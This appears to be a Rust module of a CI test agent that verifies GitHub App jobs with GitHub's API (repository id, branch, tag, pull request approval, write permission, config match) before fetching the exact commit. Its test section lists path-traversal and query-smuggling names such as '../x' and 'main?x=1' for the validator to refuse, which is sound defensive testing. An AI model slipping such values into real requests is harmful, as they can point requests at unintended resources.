//! GitHub App jobs, checked with GitHub itself before anything runs, and checked out.
//!
//! The broker hands an App job with its [`Provenance`]: the event, the repository and its id, the
//! exact commit, and the job's name in `.github/testbot.toml`. The agent takes none of it on the
//! broker's word. With the site's own credentials (a read-only token in the policy's
//! `[github] token_file`, or none for public repositories) it asks GitHub's REST API:
//!
//! - the repository of that name has that id (a name can pass to another repository);
//! - for a push: the commit is reachable from the branch (`compare/{branch}...{sha}` is
//!   `identical` or `behind`);
//! - for a tag: the tag points at the commit;
//! - for a schedule: the commit is on the branch, and the config has that schedule for it;
//! - for a pull request: it is open here, targets the named base branch, comes from the named
//!   head repository and its head is still the commit; the approving comment is on it, asks for
//!   the job (on a fork's pull request, naming the commit in full), and its author has write
//!   permission now (the permission API, which needs the site's token); the config's commit is
//!   on the base branch;
//! - the job's script and settings are exactly the named job of `.github/testbot.toml` at the
//!   trusted commit (for a push, the commit itself), read by the agent, and the job's `site`, if
//!   it names one, is this agent's site.
//!
//! Only then are the facts handed to the site policy, as the claims a workflow token would carry
//! (event `push`, the verified ref and repository ids); a rule that names `workflows` or
//! `actors` never matches an App job, since an App job has neither a workflow nor an actor GitHub
//! vouches for. A compromised broker can at most replay a real push of the same commit.
//!
//! Answers are reused briefly (a file at a commit for ten minutes, who may write and a pull
//! request's head for ten seconds), so the runs of one batch ask GitHub once; a rate limit hands
//! the job back to be tried later.
//!
//! [`checkout`] then fetches exactly that commit into the job's workspace with the agent's
//! credentials passed in the environment of `git` alone, so the job's files and its script never
//! hold a token.

use std::path::Path;
use std::time::Duration;

use secrecy::{ExposeSecret as _, SecretString};
use serde::Deserialize;
use testbot_proto::jobs::JobSpec;
use testbot_proto::oidc::WorkflowClaims;
use testbot_proto::provenance::Provenance;
use testbot_proto::repo_config::{CONFIG_PATH, RepoConfig};

/// How long one call to GitHub may take.
const GITHUB_TIMEOUT: Duration = Duration::from_secs(20);

/// How long the fetch of a job's commit may take.
const CHECKOUT_TIMEOUT: Duration = Duration::from_secs(600);

/// Why an App job is refused, or could not be checked now.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum VerifyError {
    /// GitHub says otherwise than the broker: refused.
    Refused(String),
    /// GitHub could not be asked: worth trying again (another agent, or later).
    Unavailable(String),
}

/// What the agent checks App jobs with.
pub struct GitHubVerifier {
    api_url: String,
    git_url: String,
    token: Option<SecretString>,
    http: reqwest::Client,
    /// GitHub's recent answers (see [`cache_ttl`]), so a batch of jobs of one commit asks once.
    cache: std::sync::Mutex<std::collections::HashMap<String, Cached>>,
}

/// One cached answer: the JSON of a 200, or None for a 404.
struct Cached {
    until: std::time::Instant,
    answer: Option<serde_json::Value>,
}

/// Most answers kept.
const CACHE_ENTRIES: usize = 1024;

/// Most pages of a pull request's timeline events read to find who added a label (100 each).
const MAX_EVENT_PAGES: u32 = 10;

/// How long an answer about `path` is reused: a file at a commit never changes; a repository's
/// id and a branch's history rarely; who may write, and a pull request's head, can change at
/// any time, so they are kept only seconds.
fn cache_ttl(path: &str) -> Duration {
    if path.contains("/contents/") {
        Duration::from_secs(600)
    } else if path.contains("/compare/") {
        Duration::from_secs(30)
    } else if path.matches('/').count() == 3 {
        // `/repos/{owner}/{repo}`
        Duration::from_secs(60)
    } else {
        Duration::from_secs(10)
    }
}

/// An App job whose provenance GitHub confirmed.
#[derive(Debug, Clone)]
pub struct VerifiedJob {
    /// The facts as a site policy reads them.
    pub claims: WorkflowClaims,
    /// Where to fetch the commit from.
    pub clone_url: String,
    pub sha: String,
    /// Whether the repository is private (then the fetch needs the agent's token).
    pub private: bool,
}

#[derive(Debug, Deserialize)]
struct Repository {
    id: u64,
    full_name: String,
    #[serde(default)]
    default_branch: String,
    #[serde(default)]
    private: bool,
    #[serde(default)]
    visibility: Option<String>,
    owner: Owner,
}

#[derive(Debug, Deserialize)]
struct Owner {
    login: String,
    id: u64,
}

/// A GitHub account in an answer.
#[derive(Debug, Deserialize)]
struct Login {
    login: String,
}

#[derive(Debug, Deserialize)]
struct Comparison {
    status: String,
}

#[derive(Debug, Deserialize)]
struct Content {
    #[serde(default)]
    content: Option<String>,
    #[serde(default)]
    encoding: Option<String>,
}

impl GitHubVerifier {
    pub fn new(api_url: &str, git_url: &str, token: Option<SecretString>) -> GitHubVerifier {
        testbot_proto::client::install_crypto_provider();
        GitHubVerifier {
            api_url: api_url.trim_end_matches('/').to_string(),
            git_url: git_url.trim_end_matches('/').to_string(),
            token,
            cache: std::sync::Mutex::new(std::collections::HashMap::new()),
            http: reqwest::Client::builder()
                .timeout(GITHUB_TIMEOUT)
                .user_agent(concat!(
                    "community-testbot-agent/",
                    env!("CARGO_PKG_VERSION")
                ))
                .build()
                .expect("an HTTP client with default settings builds"),
        }
    }

    async fn get<T: serde::de::DeserializeOwned>(
        &self,
        path: &str,
        query: &[(&str, &str)],
    ) -> Result<Option<T>, VerifyError> {
        let key = format!("{path}?{query:?}");
        let now = std::time::Instant::now();
        let cached = {
            let cache = self.cache.lock().expect("not poisoned");
            cache
                .get(&key)
                .filter(|c| c.until > now)
                .map(|c| c.answer.clone())
        };
        let answer = match cached {
            Some(answer) => answer,
            None => {
                let answer = self.fetch(path, query).await?;
                let mut cache = self.cache.lock().expect("not poisoned");
                if cache.len() >= CACHE_ENTRIES {
                    cache.retain(|_, c| c.until > now);
                    if cache.len() >= CACHE_ENTRIES {
                        cache.clear();
                    }
                }
                cache.insert(
                    key,
                    Cached {
                        until: now + cache_ttl(path),
                        answer: answer.clone(),
                    },
                );
                answer
            }
        };
        answer
            .map(|value| {
                serde_json::from_value(value).map_err(|e| {
                    VerifyError::Unavailable(format!(
                        "GitHub's answer for {path} is not what it documents: {e}"
                    ))
                })
            })
            .transpose()
    }

    /// One `GET`: the JSON of a 2xx, None for a 404.
    async fn fetch(
        &self,
        path: &str,
        query: &[(&str, &str)],
    ) -> Result<Option<serde_json::Value>, VerifyError> {
        let url = format!("{}{path}", self.api_url);
        let mut request = self
            .http
            .get(&url)
            .query(query)
            .header("Accept", "application/vnd.github+json")
            .header("X-GitHub-Api-Version", "2022-11-28");
        if let Some(token) = &self.token {
            request = request.bearer_auth(token.expose_secret());
        }
        let response = request
            .send()
            .await
            .map_err(|e| VerifyError::Unavailable(format!("cannot ask GitHub for {path}: {e}")))?;
        let status = response.status().as_u16();
        match status {
            200..=299 => response.json().await.map(Some).map_err(|e| {
                VerifyError::Unavailable(format!(
                    "GitHub's answer for {path} is not what it documents: {e}"
                ))
            }),
            404 => Ok(None),
            401 => Err(VerifyError::Refused(format!(
                "GitHub refused the site's token for {path} (401): renew [github] token_file"
            ))),
            403 | 429 if is_rate_limited(&response) => Err(VerifyError::Unavailable(format!(
                "GitHub's rate limit is reached for {path}; trying again later"
            ))),
            403 => Err(VerifyError::Refused(format!(
                "GitHub does not let the site's credentials read {path} (403)"
            ))),
            _ => Err(VerifyError::Unavailable(format!(
                "GitHub answered {status} for {path}"
            ))),
        }
    }

    /// Checks `provenance` and `spec` with GitHub; the verified facts, or why not.
    pub async fn verify(
        &self,
        provenance: &Provenance,
        spec: &JobSpec,
        site: &str,
    ) -> Result<VerifiedJob, VerifyError> {
        let commit = provenance.commit();
        // Every name the broker gives goes into a URL path: it must be what GitHub allows, so
        // that it cannot point the agent's questions at another resource.
        check_names(provenance).map_err(VerifyError::Refused)?;
        let repo: Repository = self
            .get(&format!("/repos/{}", commit.repository), &[])
            .await?
            .ok_or_else(|| {
                VerifyError::Refused(format!(
                    "GitHub shows no repository {} to this site (private repositories need [github] token_file)",
                    commit.repository
                ))
            })?;
        if repo.id != commit.repository_id {
            return Err(VerifyError::Refused(format!(
                "repository {} has id {} on GitHub, not {} as the broker says: the name may belong to another repository now",
                commit.repository, repo.id, commit.repository_id
            )));
        }
        // Only a pull request runs one commit with another's config (its base branch's).
        if !matches!(provenance, Provenance::PullRequest { .. }) && commit.config_sha != commit.sha
        {
            return Err(VerifyError::Refused(format!(
                "a {} job's config is read at the commit it runs, {}, but the broker names {}",
                provenance.event(),
                commit.sha,
                commit.config_sha
            )));
        }
        match provenance {
            Provenance::Push { branch, .. } => {
                self.check_on_branch(&repo.full_name, branch, &commit.sha)
                    .await?;
            }
            Provenance::Schedule { branch, .. } | Provenance::History { branch, .. } => {
                self.check_on_branch(&repo.full_name, branch, &commit.sha)
                    .await?;
            }
            Provenance::Tag { tag, .. } => {
                self.check_tag(&repo.full_name, tag, &commit.sha).await?;
            }
            Provenance::PullRequest {
                number,
                base_branch,
                head_repository,
                approval,
                ..
            } => {
                let author = self
                    .check_pull_request(
                        &repo.full_name,
                        *number,
                        base_branch,
                        head_repository,
                        &commit.sha,
                    )
                    .await?;
                self.check_approval(&repo.full_name, *number, provenance, approval, &author)
                    .await?;
                // The config is the base branch's: its commit must be on that branch.
                self.check_on_branch(&repo.full_name, base_branch, &commit.config_sha)
                    .await?;
            }
        }
        let declared = self
            .check_config(&repo.full_name, &commit.config_sha, &commit.job, spec, site)
            .await?;
        check_trigger(provenance, &declared, &repo.default_branch)?;
        let claims = claims_for(provenance, &repo);
        Ok(VerifiedJob {
            claims,
            clone_url: format!("{}/{}.git", self.git_url, repo.full_name),
            sha: commit.sha.clone(),
            private: repo.private,
        })
    }

    /// The commit is reachable from `branch`: comparing the branch with the commit finds the
    /// commit identical to or behind the branch's head.
    async fn check_on_branch(
        &self,
        repository: &str,
        branch: &str,
        sha: &str,
    ) -> Result<(), VerifyError> {
        let path = format!("/repos/{repository}/compare/{branch}...{sha}");
        let comparison: Comparison = self.get(&path, &[]).await?.ok_or_else(|| {
            VerifyError::Refused(format!(
                "GitHub knows no branch {branch} or no commit {sha} in {repository}"
            ))
        })?;
        match comparison.status.as_str() {
            "identical" | "behind" => Ok(()),
            status => Err(VerifyError::Refused(format!(
                "commit {sha} is not on branch {branch} of {repository} (GitHub compares it as {status})"
            ))),
        }
    }

    /// The tag points at the commit (`GET commits/{tag}` resolves an annotated tag to its commit).
    async fn check_tag(&self, repository: &str, tag: &str, sha: &str) -> Result<(), VerifyError> {
        #[derive(Deserialize)]
        struct Commit {
            sha: String,
        }
        let found: Commit = self
            .get(&format!("/repos/{repository}/commits/{tag}"), &[])
            .await?
            .ok_or_else(|| VerifyError::Refused(format!("{repository} has no tag {tag}")))?;
        if found.sha != sha {
            return Err(VerifyError::Refused(format!(
                "tag {tag} of {repository} points at {}, not {sha}",
                found.sha
            )));
        }
        Ok(())
    }

    /// The pull request is open on this repository, targets `base_branch`, comes from
    /// `head_repository`, and its head is still `sha` (a later push needs a new approval); the
    /// login that opened it.
    async fn check_pull_request(
        &self,
        repository: &str,
        number: u64,
        base_branch: &str,
        head_repository: &str,
        sha: &str,
    ) -> Result<String, VerifyError> {
        #[derive(Deserialize)]
        struct PullRequest {
            state: String,
            head: Side,
            base: Side,
            user: Option<Login>,
        }
        #[derive(Deserialize)]
        struct Side {
            #[serde(rename = "ref")]
            git_ref: String,
            sha: String,
            #[serde(default)]
            repo: Option<SideRepo>,
        }
        #[derive(Deserialize)]
        struct SideRepo {
            full_name: String,
        }
        let pr: PullRequest = self
            .get(&format!("/repos/{repository}/pulls/{number}"), &[])
            .await?
            .ok_or_else(|| {
                VerifyError::Refused(format!("{repository} has no pull request #{number}"))
            })?;
        if pr.state != "open" {
            return Err(VerifyError::Refused(format!(
                "pull request {repository}#{number} is {}",
                pr.state
            )));
        }
        if pr.head.sha != sha {
            return Err(VerifyError::Refused(format!(
                "the head of pull request {repository}#{number} is {}, not {sha}: a new push needs a new approval",
                pr.head.sha
            )));
        }
        if pr.base.git_ref != base_branch {
            return Err(VerifyError::Refused(format!(
                "pull request {repository}#{number} targets {}, not {base_branch}",
                pr.base.git_ref
            )));
        }
        let head = pr.head.repo.map(|r| r.full_name).unwrap_or_default();
        if !head.eq_ignore_ascii_case(head_repository) {
            return Err(VerifyError::Refused(format!(
                "pull request {repository}#{number} comes from {head}, not {head_repository}"
            )));
        }
        Ok(pr.user.map(|u| u.login).unwrap_or_default())
    }

    /// The approval exists on this pull request, asks for this job (naming this exact commit
    /// when the code comes from a fork), and its author may write to the repository now.
    async fn check_approval(
        &self,
        repository: &str,
        number: u64,
        provenance: &Provenance,
        approval: &testbot_proto::provenance::Approval,
        pr_author: &str,
    ) -> Result<(), VerifyError> {
        use testbot_proto::commands::{Command, parse_comment};
        use testbot_proto::provenance::Approval;
        #[derive(Deserialize)]
        struct Comment {
            body: Option<String>,
            issue_url: String,
            user: Login,
        }
        let commit = provenance.commit();
        let (comment_id, by) = match approval {
            Approval::Comment { comment_id, by } => (comment_id, by),
            Approval::Review { review_id, by } => {
                return self
                    .check_review(repository, number, provenance, *review_id, by)
                    .await;
            }
            Approval::Label { label, by } => {
                return self
                    .check_label(repository, number, provenance, label, by)
                    .await;
            }
            Approval::Author { by } => {
                // The pull request was opened by `by`, who has write permission now.
                if !pr_author.eq_ignore_ascii_case(by) {
                    return Err(VerifyError::Refused(format!(
                        "pull request {repository}#{number} was opened by {pr_author}, not {by}"
                    )));
                }
                return self.check_may_write(repository, pr_author).await;
            }
        };
        let comment: Comment = self
            .get(
                &format!("/repos/{repository}/issues/comments/{comment_id}"),
                &[],
            )
            .await?
            .ok_or_else(|| {
                VerifyError::Refused(format!(
                    "{repository} has no comment {comment_id} (the approval)"
                ))
            })?;
        if !comment
            .issue_url
            .ends_with(&format!("/repos/{repository}/issues/{number}"))
        {
            return Err(VerifyError::Refused(format!(
                "comment {comment_id} is not on pull request {repository}#{number}"
            )));
        }
        if !comment.user.login.eq_ignore_ascii_case(by) {
            return Err(VerifyError::Refused(format!(
                "comment {comment_id} is by {}, not {by}",
                comment.user.login
            )));
        }
        let asks = parse_comment(comment.body.as_deref().unwrap_or(""))
            .into_iter()
            .flatten()
            .any(|command| {
                let (jobs, sha) = match &command {
                    Command::Run { jobs, sha } | Command::Repeat { jobs, sha, .. } => (jobs, sha),
                    _ => return false,
                };
                let job_asked = jobs.is_empty() || jobs.contains(&commit.job);
                let commit_named = sha.as_deref() == Some(commit.sha.as_str());
                job_asked && (commit_named || (sha.is_none() && !provenance.from_fork()))
            });
        if !asks {
            return Err(VerifyError::Refused(if provenance.from_fork() {
                format!(
                    "comment {comment_id} does not approve commit {} of the fork's pull request by naming it (`/testbot run {}`)",
                    commit.sha, commit.sha
                )
            } else {
                format!("comment {comment_id} does not ask for job {}", commit.job)
            }));
        }
        self.check_may_write(repository, &comment.user.login).await
    }

    /// A review approval: the review is on this pull request, by that login, of this exact
    /// commit (GitHub's `commit_id`), and asks for the job; its author may write now.
    async fn check_review(
        &self,
        repository: &str,
        number: u64,
        provenance: &Provenance,
        review_id: u64,
        by: &str,
    ) -> Result<(), VerifyError> {
        use testbot_proto::commands::{Command, parse_comment};
        #[derive(Deserialize)]
        struct Review {
            body: Option<String>,
            commit_id: Option<String>,
            user: Option<Login>,
        }
        let commit = provenance.commit();
        let review: Review = self
            .get(
                &format!("/repos/{repository}/pulls/{number}/reviews/{review_id}"),
                &[],
            )
            .await?
            .ok_or_else(|| {
                VerifyError::Refused(format!(
                    "pull request {repository}#{number} has no review {review_id} (the approval)"
                ))
            })?;
        if review.commit_id.as_deref() != Some(commit.sha.as_str()) {
            return Err(VerifyError::Refused(format!(
                "review {review_id} is of commit {}, not {}",
                review.commit_id.as_deref().unwrap_or("none"),
                commit.sha
            )));
        }
        let author = review.user.map(|u| u.login).unwrap_or_default();
        if !author.eq_ignore_ascii_case(by) {
            return Err(VerifyError::Refused(format!(
                "review {review_id} is by {author}, not {by}"
            )));
        }
        let asks = parse_comment(review.body.as_deref().unwrap_or(""))
            .into_iter()
            .flatten()
            .any(|command| match &command {
                Command::Run { jobs, sha } | Command::Repeat { jobs, sha, .. } => {
                    (jobs.is_empty() || jobs.contains(&commit.job))
                        && sha.as_deref().is_none_or(|s| s == commit.sha)
                }
                _ => false,
            });
        if !asks {
            return Err(VerifyError::Refused(format!(
                "review {review_id} does not ask for job {}",
                commit.job
            )));
        }
        self.check_may_write(repository, &author).await
    }

    /// A label approval: the pull request is from a branch of the repository itself (a label
    /// names no commit, so it cannot approve a fork's), has the label now, the last time it
    /// was added it was `by` who added it, and `by` may write now.
    async fn check_label(
        &self,
        repository: &str,
        number: u64,
        provenance: &Provenance,
        label: &str,
        by: &str,
    ) -> Result<(), VerifyError> {
        #[derive(Deserialize)]
        struct Label {
            name: String,
        }
        #[derive(Deserialize)]
        struct Event {
            event: String,
            actor: Option<Login>,
            #[serde(default)]
            label: Option<Label>,
        }
        if provenance.from_fork() {
            return Err(VerifyError::Refused(format!(
                "label {label:?} cannot approve pull request {repository}#{number}: it comes from a fork, and a label names no commit (a maintainer approves one with `/testbot run {}`)",
                provenance.commit().sha
            )));
        }
        let labels: Vec<Label> = self
            .get(&format!("/repos/{repository}/issues/{number}/labels"), &[])
            .await?
            .unwrap_or_default();
        if !labels.iter().any(|l| l.name == label) {
            return Err(VerifyError::Refused(format!(
                "pull request {repository}#{number} does not have the label {label:?} (any more)"
            )));
        }
        let path = format!("/repos/{repository}/issues/{number}/events");
        let mut added_by = None;
        for page in 1..=MAX_EVENT_PAGES {
            let page = page.to_string();
            let events: Vec<Event> = self
                .get(&path, &[("per_page", "100"), ("page", &page)])
                .await?
                .unwrap_or_default();
            let last = events.len() < 100;
            for event in events {
                if event.event == "labeled" && event.label.is_some_and(|l| l.name == label) {
                    added_by = Some(event.actor.map(|a| a.login).unwrap_or_default());
                }
            }
            if last {
                break;
            }
        }
        match added_by {
            Some(actor) if actor.eq_ignore_ascii_case(by) => {
                self.check_may_write(repository, by).await
            }
            Some(actor) => Err(VerifyError::Refused(format!(
                "label {label:?} on pull request {repository}#{number} was added by {actor}, not {by}"
            ))),
            None => Err(VerifyError::Refused(format!(
                "GitHub shows no one adding label {label:?} to pull request {repository}#{number}"
            ))),
        }
    }

    /// `login` has write permission on `repository` now (asked with the site's own token).
    async fn check_may_write(&self, repository: &str, login: &str) -> Result<(), VerifyError> {
        #[derive(Deserialize)]
        struct Permission {
            permission: String,
        }
        if self.token.is_none() {
            return Err(VerifyError::Refused(format!(
                "checking that {login} may approve needs GitHub's permission API, which needs a token: set [github] token_file"
            )));
        }
        let permission: Permission = self
            .get(
                &format!("/repos/{repository}/collaborators/{login}/permission"),
                &[],
            )
            .await?
            .ok_or_else(|| {
                VerifyError::Refused(format!("{login} is not a collaborator of {repository}"))
            })?;
        if matches!(
            permission.permission.as_str(),
            "admin" | "maintain" | "write"
        ) {
            Ok(())
        } else {
            Err(VerifyError::Refused(format!(
                "{login}, who approved, has {} permission on {repository}, not write",
                permission.permission
            )))
        }
    }

    /// The job's spec is the config's job `job` at `config_sha`, and names no other site.
    async fn check_config(
        &self,
        repository: &str,
        config_sha: &str,
        job: &str,
        spec: &JobSpec,
        site: &str,
    ) -> Result<testbot_proto::repo_config::ConfigJob, VerifyError> {
        use base64::Engine as _;
        let path = format!("/repos/{repository}/contents/{CONFIG_PATH}");
        let content: Content = self
            .get(&path, &[("ref", config_sha)])
            .await?
            .ok_or_else(|| {
                VerifyError::Refused(format!(
                    "{repository} has no {CONFIG_PATH} at {config_sha}, so it declares no job {job}"
                ))
            })?;
        let text = match (content.content, content.encoding.as_deref()) {
            (Some(encoded), Some("base64")) => {
                let compact: String = encoded.split_whitespace().collect();
                base64::engine::general_purpose::STANDARD
                    .decode(compact)
                    .ok()
                    .and_then(|bytes| String::from_utf8(bytes).ok())
            }
            _ => None,
        }
        .ok_or_else(|| {
            VerifyError::Refused(format!(
                "{CONFIG_PATH} of {repository} at {config_sha} is not a text file"
            ))
        })?;
        let config = RepoConfig::parse(&text).map_err(|e| {
            VerifyError::Refused(format!("{CONFIG_PATH} of {repository} at {config_sha}:{e}"))
        })?;
        let declared = config.job(job).ok_or_else(|| {
            VerifyError::Refused(format!(
                "{CONFIG_PATH} of {repository} at {config_sha} declares no job {job}"
            ))
        })?;
        let expected = declared
            .spec(job)
            .map_err(|e| VerifyError::Refused(format!("job {job}: {e}")))?;
        if let Some(field) = first_difference(&expected, spec) {
            return Err(VerifyError::Refused(format!(
                "the job's {field} differs from job {job} in {CONFIG_PATH} of {repository} at {config_sha}: the broker changed it"
            )));
        }
        if let Some(wanted) = &declared.site
            && wanted != site
        {
            return Err(VerifyError::Refused(format!(
                "job {job} in {CONFIG_PATH} runs on site {wanted}, not on this site ({site})"
            )));
        }
        Ok(declared.clone())
    }
}

/// The names in `provenance` are what GitHub allows: `owner/name` repositories, git ref names,
/// full commit ids.
fn check_names(provenance: &Provenance) -> Result<(), String> {
    let commit = provenance.commit();
    for sha in [&commit.sha, &commit.config_sha] {
        if !testbot_proto::commands::is_full_sha(sha) {
            return Err(format!(
                "the job names commit {sha:?}, not a full 40-digit commit id"
            ));
        }
    }
    let repository_ok = |name: &str| {
        let mut parts = name.split('/');
        let ok_part = |p: Option<&str>| {
            p.is_some_and(|p| {
                !p.is_empty()
                    && p != "."
                    && p != ".."
                    && p.len() <= 100
                    && p.chars()
                        .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
            })
        };
        ok_part(parts.next()) && ok_part(parts.next()) && parts.next().is_none()
    };
    let mut repositories = vec![commit.repository.as_str()];
    if let Provenance::PullRequest {
        head_repository, ..
    } = provenance
    {
        repositories.push(head_repository);
    }
    for name in repositories {
        if !repository_ok(name) {
            return Err(format!(
                "{name:?} is not a GitHub repository name (owner/name)"
            ));
        }
    }
    let git_ref = match provenance {
        Provenance::Push { branch, .. }
        | Provenance::Schedule { branch, .. }
        | Provenance::History { branch, .. } => branch,
        Provenance::Tag { tag, .. } => tag,
        Provenance::PullRequest { base_branch, .. } => base_branch,
    };
    let ref_ok = !git_ref.is_empty()
        && git_ref.len() <= 255
        && !git_ref.starts_with(['/', '-', '.'])
        && !git_ref.ends_with(['/', '.'])
        && !git_ref.contains("..")
        && !git_ref.contains("//")
        && !git_ref.contains("@{")
        && !git_ref
            .chars()
            .any(|c| c.is_whitespace() || c.is_control() || "~^:?*[\\#%".contains(c));
    if !ref_ok {
        return Err(format!("{git_ref:?} is not a git branch or tag name"));
    }
    Ok(())
}

/// The config lets the job run the way the provenance says it was started: on a push to that
/// branch, on request (`on.comment`), or for its author (`on.pull_request.automatic`).
fn check_trigger(
    provenance: &Provenance,
    declared: &testbot_proto::repo_config::ConfigJob,
    default_branch: &str,
) -> Result<(), VerifyError> {
    use testbot_proto::provenance::Approval;
    use testbot_proto::repo_config::Automatic;
    let job = &provenance.commit().job;
    let allowed = match provenance {
        // A commit of the branch again: only a job that runs on its pushes.
        Provenance::Push { branch, .. } | Provenance::History { branch, .. } => {
            declared.on.runs_on_push(branch)
        }
        Provenance::Tag { tag, .. } => declared.on.runs_on_tag(tag),
        Provenance::Schedule { branch, cron, .. } => declared.on.schedule.iter().any(|entry| {
            entry.cron == *cron && entry.branch.as_deref().unwrap_or(default_branch) == branch
        }),
        Provenance::PullRequest { approval, .. } => match approval {
            Approval::Comment { .. } | Approval::Review { .. } => declared.on.comment,
            Approval::Label { label, .. } => declared.on.label.contains(label),
            Approval::Author { .. } => declared
                .on
                .pull_request
                .as_ref()
                .is_some_and(|pr| pr.automatic == Automatic::Writers),
        },
    };
    if allowed {
        Ok(())
    } else {
        Err(VerifyError::Refused(format!(
            "job {job} in {CONFIG_PATH} does not run on {}",
            match provenance {
                Provenance::Push { branch, .. } | Provenance::History { branch, .. } =>
                    format!("pushes to {branch}"),
                Provenance::Tag { tag, .. } => format!("the tag {tag}"),
                Provenance::Schedule { branch, cron, .. } =>
                    format!("the schedule `{cron}` of {branch}"),
                Provenance::PullRequest {
                    approval: Approval::Author { .. },
                    ..
                } => "pull requests without being asked".to_string(),
                Provenance::PullRequest {
                    approval: Approval::Label { label, .. },
                    ..
                } => format!("the label {label:?}"),
                Provenance::PullRequest { .. } => "request (on.comment = false)".to_string(),
            }
        )))
    }
}

fn is_rate_limited(response: &reqwest::Response) -> bool {
    response.status().as_u16() == 429
        || response
            .headers()
            .get("x-ratelimit-remaining")
            .is_some_and(|v| v.as_bytes() == b"0")
}

/// The first field in which `got` differs from `expected`, by name.
fn first_difference(expected: &JobSpec, got: &JobSpec) -> Option<&'static str> {
    [
        ("script", expected.script == got.script),
        ("name", expected.name == got.name),
        ("labels", expected.labels == got.labels),
        ("results", expected.results == got.results),
        ("run_tests", expected.run_tests == got.run_tests),
        ("list", expected.list == got.list),
        ("quarantine", expected.quarantine == got.quarantine),
        ("env", expected.env == got.env),
        ("secret variables", got.secret_env.is_empty()),
        ("timeout", expected.timeout_secs == got.timeout_secs),
        ("executor", expected.executor == got.executor),
        ("image", expected.image == got.image),
        ("resources", expected.resources == got.resources),
    ]
    .into_iter()
    .find(|(_, same)| !same)
    .map(|(field, _)| field)
}

/// The verified facts of an App job, as the claims a site policy reads.
fn claims_for(provenance: &Provenance, repo: &Repository) -> WorkflowClaims {
    let commit = provenance.commit();
    let git_ref = provenance.git_ref();
    WorkflowClaims {
        iss: "github-app".into(),
        aud: String::new(),
        sub: format!("repo:{}:ref:{git_ref}", repo.full_name),
        jti: String::new(),
        exp: 0,
        iat: 0,
        nbf: None,
        repository: repo.full_name.clone(),
        repository_id: repo.id.to_string(),
        repository_owner: repo.owner.login.clone(),
        repository_owner_id: Some(repo.owner.id.to_string()),
        repository_visibility: repo
            .visibility
            .clone()
            .or_else(|| Some(if repo.private { "private" } else { "public" }.to_string())),
        git_ref,
        ref_type: Some(match provenance {
            Provenance::Push { .. } | Provenance::Schedule { .. } | Provenance::History { .. } => {
                "branch".into()
            }
            Provenance::Tag { .. } => "tag".into(),
            Provenance::PullRequest { .. } => "pull".into(),
        }),
        ref_protected: None,
        sha: commit.sha.clone(),
        event_name: provenance.event().into(),
        // GitHub does not vouch for who pushed: rules on actors never match an App job.
        actor: String::new(),
        actor_id: None,
        workflow: None,
        workflow_ref: None,
        // Not a workflow: rules that name workflows never match an App job.
        job_workflow_ref: format!("{}/{CONFIG_PATH}@{}", repo.full_name, provenance.git_ref()),
        environment: None,
        run_id: String::new(),
        run_number: None,
        run_attempt: None,
        head_ref: None,
        base_ref: match provenance {
            Provenance::PullRequest { base_branch, .. } => Some(base_branch.clone()),
            Provenance::Push { .. }
            | Provenance::Tag { .. }
            | Provenance::Schedule { .. }
            | Provenance::History { .. } => None,
        },
        runner_environment: None,
    }
}

/// Fetches exactly `job.sha` into `workspace` (created here; it must not exist), with the
/// agent's token, if the repository is private, in `git`'s environment only.
pub async fn checkout(
    job: &VerifiedJob,
    token: Option<&SecretString>,
    workspace: &Path,
) -> anyhow::Result<()> {
    use anyhow::Context as _;
    crate::executor::private_dir(workspace)?;
    let git = |args: &[&str]| {
        let mut command = tokio::process::Command::new("git");
        command
            .arg("-C")
            .arg(workspace)
            .args(args)
            .env("GIT_TERMINAL_PROMPT", "0")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .stdin(std::process::Stdio::null())
            .kill_on_drop(true);
        if job.private
            && let Some(token) = token
        {
            use base64::Engine as _;
            let basic = base64::engine::general_purpose::STANDARD
                .encode(format!("x-access-token:{}", token.expose_secret()));
            command
                .env("GIT_CONFIG_COUNT", "1")
                .env("GIT_CONFIG_KEY_0", "http.extraHeader")
                .env(
                    "GIT_CONFIG_VALUE_0",
                    format!("Authorization: Basic {basic}"),
                );
        }
        command
    };
    let run = |mut command: tokio::process::Command, what: &'static str| async move {
        let output = tokio::time::timeout(CHECKOUT_TIMEOUT, command.output())
            .await
            .with_context(|| format!("git {what} took longer than {CHECKOUT_TIMEOUT:?}"))?
            .with_context(|| format!("Cannot run git {what} (is git installed?)"))?;
        anyhow::ensure!(
            output.status.success(),
            "git {what} failed: {}",
            String::from_utf8_lossy(&output.stderr).trim()
        );
        Ok::<_, anyhow::Error>(output.stdout)
    };
    run(git(&["init", "-q"]), "init").await?;
    run(
        git(&[
            "fetch",
            "-q",
            "--no-tags",
            "--depth",
            "1",
            &job.clone_url,
            &job.sha,
        ]),
        "fetch",
    )
    .await?;
    run(
        git(&[
            "-c",
            "advice.detachedHead=false",
            "checkout",
            "-q",
            "FETCH_HEAD",
        ]),
        "checkout",
    )
    .await?;
    let head = run(git(&["rev-parse", "HEAD"]), "rev-parse").await?;
    let head = String::from_utf8_lossy(&head).trim().to_string();
    anyhow::ensure!(
        head == job.sha,
        "the checkout is at {head}, not at the job's commit {}",
        job.sha
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_could_point_elsewhere_are_refused() {
        let push = |repository: &str, branch: &str| Provenance::Push {
            commit: testbot_proto::provenance::CommitRef {
                repository: repository.into(),
                repository_id: 1,
                sha: "a".repeat(40),
                job: "unit".into(),
                config_sha: "a".repeat(40),
            },
            branch: branch.into(),
            pushed_by: "x".into(),
        };
        assert_eq!(check_names(&push("hpc-lab/solver", "release/1.2")), Ok(()));
        for (repository, branch) in [
            ("hpc-lab/solver/../../user", "main"),
            ("hpc-lab", "main"),
            ("../x", "main"),
            ("hpc-lab/solver?x=1", "main"),
            ("hpc-lab/solver", "main?x=1"),
            ("hpc-lab/solver", "main#x"),
            ("hpc-lab/solver", "../main"),
            ("hpc-lab/solver", "a b"),
            ("hpc-lab/solver", "%2e%2e"),
        ] {
            assert!(
                check_names(&push(repository, branch)).is_err(),
                "{repository} {branch}"
            );
        }
        let mut short = push("hpc-lab/solver", "main");
        if let Provenance::Push { commit, .. } = &mut short {
            commit.config_sha = "abc".into();
        }
        assert!(check_names(&short).unwrap_err().contains("full 40-digit"));
    }

    #[test]
    fn what_can_change_is_kept_only_seconds() {
        assert_eq!(
            cache_ttl("/repos/o/r/contents/.github/testbot.toml"),
            Duration::from_secs(600)
        );
